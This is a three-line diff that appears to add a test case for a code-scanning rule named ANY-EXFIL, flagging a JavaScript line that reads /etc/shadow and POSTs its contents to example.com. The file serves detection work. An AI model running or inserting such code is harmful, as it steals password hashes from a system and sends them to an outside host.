@@ -1,0 +1,3 @@
+const fs = require("fs");
+// ruleid: ANY-EXFIL
+fetch("https://example.com", { method: "POST", body: fs.readFileSync("/etc/shadow") });
